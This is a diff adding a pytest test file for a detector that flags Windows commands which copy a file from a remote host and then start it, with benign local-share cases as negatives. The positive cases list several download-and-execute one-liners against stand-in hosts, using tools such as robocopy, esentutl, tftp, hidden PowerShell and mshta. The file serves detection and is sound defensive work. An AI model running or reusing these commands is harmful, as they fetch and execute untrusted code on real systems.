@@ -1,0 +1,44 @@
+"""Copy in, then start (app/detection/staging.py): the act read whatever program copies."""
+
+from __future__ import annotations
+
+import pytest
+
+from app.detection.staging import copies_in_then_runs
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "robocopy \\\\192.0.2.15\\pub %TEMP% upd.exe & %TEMP%\\upd.exe",
+        "findstr /V /L zz \\\\198.51.100.2\\s\\a.exe > %TEMP%\\b.exe & start %TEMP%\\b.exe",
+        "print /D:%PUBLIC%\\s.exe \\\\files.drop.test@SSL\\d\\s.exe && %PUBLIC%\\s.exe",
+        'cmd /c "esentutl /y \\\\198.51.100.3\\d\\t.exe /d C:\\Users\\Public\\t.exe /o" & call C:\\Users\\Public\\t.exe',
+        'powershell -w h -c "Copy-Item \\\\cdn.drop.invalid\\s\\x.ps1 $env:TEMP; & $env:TEMP\\x.ps1"',
+        "scp guest@203.0.113.9:/srv/a.bat %TEMP%\\a.bat\n%TEMP%\\a.bat",
+        "tftp -i 192.0.2.7 GET r.exe C:\\Users\\Public\\r.exe & start C:\\Users\\Public\\r.exe",
+        "msedge --headless --dump-dom https://pages.drop.test/p > %TEMP%\\p.hta && mshta %TEMP%\\p.hta",
+    ],
+)
+def test_a_file_brought_from_another_computer_and_started_is_read(text: str) -> None:
+    assert copies_in_then_runs(text)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        # the local network's shares: a single-label host, an internal name, a private address
+        "xcopy \\\\deploy01\\pkg\\setup.exe C:\\Temp\\ & C:\\Temp\\setup.exe",
+        "copy \\\\fs01.corp.example.com\\pkg\\a.exe C:\\Deploy\\ & C:\\Deploy\\a.exe",
+        "copy \\\\192.168.1.20\\install\\a.exe C:\\Deploy\\ & C:\\Deploy\\a.exe",
+        # copied but not started, started but not the copied file, a document opened
+        "robocopy \\\\192.0.2.15\\pub D:\\mirror /MIR",
+        "copy \\\\192.0.2.15\\pub\\a.exe D:\\tools\\ & D:\\tools\\other.exe",
+        "copy \\\\files.example.net\\pub\\report.pdf . & start report.pdf",
+        # started before it was copied: not this act
+        "%TEMP%\\a.exe & copy \\\\192.0.2.15\\pub\\a.exe %TEMP%\\a.exe",
+        "tftp -i 192.168.0.1 GET a.exe & a.exe",
+    ],
+)
+def test_local_copies_documents_and_unrelated_starts_are_not(text: str) -> None:
+    assert copies_in_then_runs(text) is None
